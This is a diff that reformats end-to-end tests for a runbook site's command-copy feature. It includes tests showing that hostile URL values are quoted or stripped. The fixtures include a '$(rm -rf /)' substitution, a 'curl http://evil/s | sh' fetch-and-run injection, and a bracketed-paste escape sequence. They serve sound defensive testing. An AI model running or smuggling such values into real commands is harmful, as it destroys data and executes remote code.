@@ -29,7 +29,11 @@ async function open(path: string, options: { colorScheme?: 'light' | 'dark'; ins
 const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
 const setClipboard = (page: Page, text: string) => page.evaluate((t) => navigator.clipboard.writeText(t), text);
 /** The command element whose copied text starts with `start`. */
-const command = (page: Page, start: string) => page.locator('.cmd').filter({ has: page.locator('code', { hasText: start }) }).first();
+const command = (page: Page, start: string) =>
+  page
+    .locator('.cmd')
+    .filter({ has: page.locator('code', { hasText: start }) })
+    .first();
 
 describe('copying commands', () => {
   it('copies exactly one command: no prompt, no comment lines, no trailing newline', async () => {
@@ -49,7 +53,7 @@ describe('copying commands', () => {
     const patch = command(page, 'initialDelaySeconds');
     await patch.locator('.cmd__copy').click();
     const copied = await clipboard(page);
-    expect(copied.startsWith("kubectl patch deployment shepherd -n production -p '{\n  \"spec\": {")).toBe(true);
+    expect(copied.startsWith('kubectl patch deployment shepherd -n production -p \'{\n  "spec": {')).toBe(true);
     expect(copied.endsWith("}'")).toBe(true);
     expect(copied).not.toMatch(/[“”‘’–—]/);
     await context.close();
@@ -59,7 +63,9 @@ describe('copying commands', () => {
     const { page, context } = await open('/runbooks/mks-003/');
     const block = page.locator('.cmd-block', { hasText: 'kube-apiserver.yaml' }).first();
     await block.locator('.cmd-block__copy-all').click();
-    expect(await clipboard(page)).toBe('ls -l /etc/kubernetes/manifests\nsudo cat /etc/kubernetes/manifests/kube-apiserver.yaml\nsudo cat /etc/kubernetes/manifests/etcd.yaml');
+    expect(await clipboard(page)).toBe(
+      'ls -l /etc/kubernetes/manifests\nsudo cat /etc/kubernetes/manifests/kube-apiserver.yaml\nsudo cat /etc/kubernetes/manifests/etcd.yaml',
+    );
     await context.close();
   });
 
@@ -144,7 +150,12 @@ describe('variables', () => {
 
 describe('hostile values from a link', () => {
   /** K8S-002's `kubectl describe pod <pod-name> -n <namespace> | grep "Image:"`. */
-  const describePod = (page: Page) => page.locator('.cmd').filter({ has: page.locator('.ph[data-var="namespace"]') }).filter({ hasText: 'kubectl describe pod' }).first();
+  const describePod = (page: Page) =>
+    page
+      .locator('.cmd')
+      .filter({ has: page.locator('.ph[data-var="namespace"]') })
+      .filter({ hasText: 'kubectl describe pod' })
+      .first();
 
   it('quotes a command substitution from the URL, marks it, and copies it only on a confirming second click that says why', async () => {
     const { page, context } = await open(`/runbooks/k8s-002/?namespace=${encodeURIComponent('$(rm -rf /)')}&pod=x`);
@@ -156,12 +167,16 @@ describe('hostile values from a link', () => {
     expect(await clipboard(page)).toBe('unchanged');
     await target.locator('.cmd__copy').click();
     expect(await clipboard(page)).toBe(`kubectl describe pod x -n '$(rm -rf /)' | grep "Image:"`);
-    expect(await page.locator('[data-var-input="namespace"] ~ .variables__note').textContent()).toContain('shell would read as code');
+    expect(await page.locator('[data-var-input="namespace"] ~ .variables__note').textContent()).toContain(
+      'shell would read as code',
+    );
     await context.close();
   });
 
   it('never lets a second command in: ; | and # stay inside the quoted value', async () => {
-    const { page, context } = await open(`/runbooks/k8s-002/?pod=${encodeURIComponent('x; curl http://evil/s | sh #')}&namespace=prod`);
+    const { page, context } = await open(
+      `/runbooks/k8s-002/?pod=${encodeURIComponent('x; curl http://evil/s | sh #')}&namespace=prod`,
+    );
     const target = describePod(page);
     await target.locator('.cmd__copy').click();
     await target.locator('.cmd__copy').click();
@@ -170,7 +185,9 @@ describe('hostile values from a link', () => {
   });
 
   it('removes control and invisible characters (ESC [201~ ends bracketed paste), says so, and keeps them out of the URL', async () => {
-    const { page, context } = await open(`/runbooks/k8s-002/?pod=${encodeURIComponent('web\u001b[201~\u0007\t\u200b\u202e1')}&namespace=prod`);
+    const { page, context } = await open(
+      `/runbooks/k8s-002/?pod=${encodeURIComponent('web\u001b[201~\u0007\t\u200b\u202e1')}&namespace=prod`,
+    );
     const target = describePod(page);
     await target.locator('.cmd__copy').click();
     await target.locator('.cmd__copy').click();
@@ -196,7 +213,9 @@ describe('hostile values from a link', () => {
     await page.fill('[data-var-input="namespace"]', 'Prod Space');
     const target = describePod(page);
     expect(await target.locator('.ph[data-var="namespace"]').textContent()).toBe("'Prod Space'");
-    expect(await page.locator('[data-var-input="namespace"]').evaluate((i) => i.classList.contains('is-unusual'))).toBe(true);
+    expect(await page.locator('[data-var-input="namespace"]').evaluate((i) => i.classList.contains('is-unusual'))).toBe(
+      true,
+    );
     await context.close();
   });
 });
@@ -238,7 +257,10 @@ describe('safety', () => {
 describe('appearance', () => {
   it('in dark mode, command blocks are dark and their labels keep AA contrast', async () => {
     const { page, context } = await open('/runbooks/node001/', { colorScheme: 'dark' });
-    const body = await page.locator('.cmd-block__body').first().evaluate((e) => getComputedStyle(e).backgroundColor);
+    const body = await page
+      .locator('.cmd-block__body')
+      .first()
+      .evaluate((e) => getComputedStyle(e).backgroundColor);
     expect(body).toBe('rgb(10, 12, 16)');
     const label = page.locator('.cmd__safety--destructive').first();
     const [fg, bg] = await label.evaluate((e) => [getComputedStyle(e).color, getComputedStyle(e).backgroundColor]);
@@ -253,7 +275,9 @@ describe('appearance', () => {
     await page.goto(`${siteUrl()}/runbooks/k8s-002/?namespace=prod`);
     expect(await page.locator('.cmd__copy:visible').count()).toBe(0);
     expect(await page.locator('[data-variables]').isVisible()).toBe(false);
-    expect(await page.locator('.cmd code', { hasText: 'describe pod <pod-name>' }).first().textContent()).toBe('kubectl describe pod <pod-name> -n <namespace> | grep "Image:"');
+    expect(await page.locator('.cmd code', { hasText: 'describe pod <pod-name>' }).first().textContent()).toBe(
+      'kubectl describe pod <pod-name> -n <namespace> | grep "Image:"',
+    );
     await context.close();
   });
 });
